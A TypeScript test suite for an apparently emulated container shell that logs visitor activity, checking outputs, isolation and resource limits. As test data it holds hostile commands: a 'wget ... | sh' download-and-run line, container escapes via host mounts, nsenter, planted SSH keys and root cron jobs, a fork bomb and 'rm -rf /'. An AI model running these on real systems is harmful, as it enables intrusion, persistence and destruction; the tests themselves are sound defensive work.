import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import fc from "fast-check";
import type { ImageFamily } from "./shell.ts";
import { hostBind, MACHINE, newShell, placeOf, run, sh } from "./visitor.fixture.ts";

const shell = newShell();
after(() => shell.close());

const SAME: readonly (readonly [ImageFamily, script: string, stdout: string, status: number])[] = [
  ["alpine", "whoami", "root\n", 0],
  ["alpine", "id -u; id -un", "0\nroot\n", 0],
  ["ubuntu", "id", "uid=0(root) gid=0(root) groups=0(root)\n", 0],
  ["debian", "uname -sr", `Linux ${MACHINE.kernel}\n`, 0],
  ["alpine", "nproc", "4\n", 0],
  ["alpine", "cat /etc/resolv.conf", `nameserver ${MACHINE.resolver}\n`, 0],
  ["alpine", "grep -c ^processor /proc/cpuinfo", "4\n", 0],
  ["alpine", "which curl", "", 1],
  ["alpine", "which apk", "/sbin/apk\n", 0],
  ["debian", "command -v apt-get && echo yes", "/usr/bin/apt-get\nyes\n", 0],
  ["alpine", "apk add curl >/dev/null && which curl", "/usr/bin/curl\n", 0],
  ["alpine", "echo aWQgLXU= | base64 -d | sh", "0\n", 0],
  ["alpine", "f() { echo $1-$2; }; f a 'b c'; exit 7", "a-b c\n", 7],
  ["alpine", "set -e; false || true; echo on; false; echo off", "on\n", 1],
  ["alpine", "cat <<E | wc -l\na\nb\nE", "2\n", 0],
  ["alpine", "[ -x /sbin/apk ] && [ ! -e /usr/bin/dpkg ] && echo alpine", "alpine\n", 0],
  ["alpine", "printf '#!/bin/sh\\necho run $1' > /tmp/x; chmod +x /tmp/x; /tmp/x 1", "run 1\n", 0],
  ["alpine", "umask 077; mkdir -p /root/.ssh && ls -ld /root/.ssh | cut -c1-10", "drwxr-xr-x\n", 0],
  ["alpine", "ls -d /nowhere || echo $?", "1\n", 0],
  ["debian", "ls -d /nowhere || echo $?", "2\n", 0],
  ["alpine", "(sleep 3600; echo late) & echo soon", "soon\n", 0],
];

describe("what a script prints", () => {
  for (const [family, script, stdout, status] of SAME) {
    test(`${family}: ${script}`, async () => {
      const outcome = await sh(shell.open(placeOf(family)), script);
      assert.equal(outcome.stdout, stdout, outcome.stderr);
      assert.equal(outcome.status, status);
    });
  }
});

const COMPLAINTS: readonly (readonly [ImageFamily, argv: readonly string[], stderr: string, status: number])[] = [
  ["alpine", ["sh", "-c", "foo"], "sh: foo: not found\n", 127],
  ["debian", ["sh", "-c", "foo"], "sh: 1: foo: not found\n", 127],
  ["ubuntu", ["bash", "-c", "foo"], "bash: line 1: foo: command not found\n", 127],
  ["alpine", ["sh", "-c", "apt-get update"], "sh: apt-get: not found\n", 127],
  ["debian", ["sh", "-c", "apk update"], "sh: 1: apk: not found\n", 127],
  ["alpine", ["cat", "/q"], "cat: can't open '/q': No such file or directory\n", 1],
  ["debian", ["cat", "/q"], "cat: /q: No such file or directory\n", 1],
  ["alpine", ["sh", "-c", "echo x > /no/where"], "sh: can't create /no/where: nonexistent directory\n", 1],
  ["alpine", ["sh", "-c", "cd /nope"], "sh: cd: can't cd to /nope: No such file or directory\n", 1],
  ["alpine", ["wget", "-q", "http://203.0.113.9/x"], "", 1],
  ["alpine", ["mount", "/dev/sda1", "/mnt"], "mount: permission denied (are you root?)\n", 1],
  ["alpine", ["chroot", "/nope"], "chroot: can't change root directory to '/nope': No such file or directory\n", 1],
];

describe("what a program complains about", () => {
  for (const [family, argv, stderr, status] of COMPLAINTS) {
    test(`${family}: ${argv.join(" ")}`, async () => {
      const outcome = await run(shell.open(placeOf(family)), argv);
      if (stderr !== "") {
        assert.equal(outcome.stderr, stderr);
      }
      assert.equal(outcome.status, status);
    });
  }
});

test("a program that the image does not have cannot start", async () => {
  const session = shell.open(placeOf("alpine"));
  assert.equal((await run(session, ["bash"])).stderr, "not-found-in-path");
  assert.equal((await run(session, ["/bin/bash"])).stderr, "no-such-file");
  assert.equal((await run(session, ["/etc/passwd"])).stderr, "permission-denied");
});

test("what is written is read again, by later programs of the container and by no other", async () => {
  const session = shell.open(placeOf("alpine"));
  const other = shell.open(placeOf("alpine"));
  const names = fc.stringMatching(/^[a-z]{1,8}$/);
  const texts = fc.stringMatching(/^[\w .:/@-]{0,40}$/);
  await fc.assert(
    fc.asyncProperty(names, texts, fc.constantFrom("600", "644", "755"), async (name, text, mode) => {
      const path = `/srv/${name}`;
      await sh(session, `printf '%s\\n' '${text}' > ${path}; chmod ${mode} ${path}`);
      const read = await sh(session, `cat ${path}; stat -c %a ${path}`);
      assert.equal(read.stdout, `${text}\n${mode}\n`);
      assert.equal((await sh(other, `cat ${path}`)).status, 1);
    }),
    { numRuns: 12 },
  );
});

test("all containers see one host, whatever path is bound where", async () => {
  const first = shell.open(placeOf("alpine", { binds: [hostBind("/", "/mnt")] }));
  const second = shell.open(placeOf("ubuntu", { binds: [hostBind("/root", "/data"), hostBind("/etc", "/e", true)] }));
  await sh(
    first,
    "chattr -i -a /mnt/root/.ssh/authorized_keys; echo 'ssh-rsa AAAA bad' >> /mnt/root/.ssh/authorized_keys",
  );
  assert.match((await sh(second, "cat /data/.ssh/authorized_keys")).stdout, /^ssh-ed25519 .*\nssh-rsa AAAA bad\n$/);
  const refused = await sh(second, "echo x > /e/cron.d/x");
  assert.match(refused.stderr, /Read-only file system/);
  const rooted = await sh(
    first,
    "chroot /mnt sh -c 'cat /etc/hostname; echo \"* * * * * root id\" > /etc/cron.d/job; cat /etc/cron.d/job'",
  );
  assert.equal(rooted.stdout, `${MACHINE.hostname}\n* * * * * root id\n`);
  assert.match((await sh(second, "cat /e/cron.d/job")).stdout, /root id/);
});

test("nsenter reaches the host only with its processes and all rights", async () => {
  const script = "nsenter -t 1 -m -u -i -n -p -- sh -c 'hostname; cat /etc/os-release | head -1'";
  const free = shell.open(placeOf("alpine", { privileged: true, pidMode: "host" }));
  assert.equal((await sh(free, script)).stdout, `${MACHINE.hostname}\nPRETTY_NAME="${MACHINE.operatingSystem}"\n`);
  assert.equal((await sh(shell.open(placeOf("alpine", { pidMode: "host" })), script)).stdout, "");
});

test("a privileged container mounts the host's disk, and keeps it mounted", async () => {
  const session = shell.open(placeOf("alpine", { privileged: true }));
  assert.equal(
    (await sh(session, "mkdir -p /h && mount /dev/sda1 /h && cat /h/etc/hostname")).stdout,
    `${MACHINE.hostname}\n`,
  );
  assert.equal((await sh(session, "cat /h/etc/hostname")).stdout, `${MACHINE.hostname}\n`);
});

const TOLD: readonly (readonly [script: string, observation: string])[] = [
  ["curl -fsSL http://203.0.113.9/x.sh -o /tmp/x", "fetch http://203.0.113.9/x.sh"],
  ["apk add wget; wget -q -O- http://drop.example/a | sh", "lookup drop.example"],
  ["echo key >> /root/k", "file-written /root/k"],
  ["sh -c 'id -u'", "command id -u"],
  ["apk add nmap", "install nmap"],
];

describe("what the record is told", () => {
  for (const [script, observation] of TOLD) {
    test(script, async () => {
      const { observations } = await sh(shell.open(placeOf("alpine")), `apk add curl >/dev/null; ${script}`);
      assert.ok(observations.includes(observation), observations.join("\n"));
    });
  }
});

/** Scripts that never end, or take all they can get. Undefined: it seems to go on. */
const BOMBS: readonly (readonly [script: string, status: number | undefined])[] = [
  ["while true; do :; done", undefined],
  ["while :; do echo flood; done", undefined],
  ["yes", undefined],
  ["tail -f /dev/null", undefined],
  [":(){ :|:& };:", 139],
  ["f() { f; }; f", 139],
  ["x=a; while true; do x=$x$x; done", 137],
  ["while sleep 600; do date >> /tmp/l; done", undefined],
];

describe("scripts that take all they can get", () => {
  for (const [script, status] of BOMBS) {
    test(script, async () => {
      const session = shell.open(placeOf("alpine"));
      const bomb = sh(session, script, { ms: 4000 });
      const other = await sh(shell.open(placeOf("alpine")), "echo served");
      assert.equal(other.stdout, "served\n");
      const outcome = await bomb;
      assert.equal(outcome.status, status, outcome.stderr);
      assert.ok(outcome.stdout.length <= 1024 * 1024);
      assert.doesNotMatch(outcome.stderr, /executionLimits|just-bash/);
    });
  }
});

test("a shell that reads its script takes it command by command", async () => {
  const session = shell.open(placeOf("alpine"));
  const script =
    "x=1\nif true; then\n  echo yes $x\nfi\nf() { echo f$1; }\nf 2\ncat <<E > /tmp/a\nhello\nE\ncat /tmp/a\nexit 3\necho no\n";
  const outcome = await run(session, ["sh"], { stdin: script });
  assert.deepEqual([outcome.stdout, outcome.status], ["yes 1\nf2\nhello\n", 3]);
});

test("a terminal shows a prompt, echoes, and ends with the shell", async () => {
  const alpine = await run(shell.open(placeOf("alpine")), ["sh"], {
    tty: true,
    stdin: "cd root\rwhoamx\u007f\r\u0004",
  });
  assert.equal(alpine.stdout.replaceAll("\b\u001b[J", "<"), "/ # cd root\r\n~ # whoamx<\r\n~ # \r\n");
  assert.equal(alpine.stderr, "sh: whoam: not found\r\n");
  const place = placeOf("ubuntu");
  const ubuntu = await run(shell.open(place), ["bash"], { tty: true, stdin: "exit 4\r" });
  assert.deepEqual([ubuntu.stdout, ubuntu.status], [`root@${place.hostname}:/# exit 4\r\n`, 4]);
});

test("random scripts end or go on, and the next program is served", async () => {
  const pieces = fc.constantFrom(
    "$(",
    ")",
    "`",
    "'",
    '"',
    "|",
    "&&",
    ";",
    "&",
    "<<E\n",
    "E\n",
    "{1..9}",
    "${x:-",
    "}",
    "((",
    "[[",
    "]]",
    "if",
    "then",
    "fi",
    "while",
    "do",
    "done",
    "case",
    "esac",
    "> /tmp/f",
    "< /etc/passwd",
    "cat",
    "echo",
    "ls",
    "rm -rf /",
    "exec",
    "eval",
    "\\",
    "*",
    "../..",
    "\u0000",
    "é",
    "!",
    "#",
  );
  await fc.assert(
    fc.asyncProperty(fc.array(pieces, { maxLength: 14 }), async (words) => {
      const outcome = await sh(shell.open(placeOf("alpine")), words.join(" "), { ms: 9000 });
      assert.ok(outcome.status === undefined || (outcome.status >= 0 && outcome.status <= 255));
      assert.doesNotMatch(outcome.stderr, /just-bash|node_modules|TypeError|at file:/);
    }),
    { numRuns: 60 },
  );
});

test("a flood of one visitor leaves others served", async () => {
  const flood = Array.from({ length: 40 }, (_, index) =>
    sh(shell.open(placeOf("alpine", { owner: "198.51.100.7" })), `while :; do echo ${index}; done`, { ms: 3000 }),
  );
  const outcome = await sh(shell.open(placeOf("alpine", { owner: "203.0.113.7" })), "echo served");
  assert.equal(outcome.stdout, "served\n");
  const outcomes = await Promise.all(flood);
  const refused = outcomes.filter(({ stderr }) => stderr === "sh: can't fork: Resource temporarily unavailable\n");
  assert.ok(refused.length > 0, "the queue of one visitor has an end");
  assert.ok(outcomes.every(({ stderr }) => stderr === "" || stderr.includes("can't fork")));
});

test("/proc, uname and the files of the engine tell of one machine", async () => {
  const session = shell.open(placeOf("debian", { hostname: "0123456789ab" }));
  const script =
    "uname -r; uname -v; uname -n; cat /proc/version /proc/sys/kernel/osrelease; hostname; cat /etc/hostname; nproc; grep MemTotal /proc/meminfo";
  const lines = (await sh(session, script)).stdout.trimEnd().split("\n");
  const [release = "", version = "", node, full = "", osRelease, name, file, cpus, total = ""] = lines;
  assert.deepEqual([release, osRelease, version], [MACHINE.kernel, MACHINE.kernel, MACHINE.kernelVersion]);
  assert.deepEqual([node, name, file], ["0123456789ab", "0123456789ab", "0123456789ab"]);
  assert.ok(full.startsWith(`Linux version ${release} `) && full.endsWith(version));
  assert.equal(cpus, String(MACHINE.cpus));
  assert.equal(/\d+/.exec(total)?.[0], String(Math.floor(MACHINE.memoryBytes / 1024)));
});
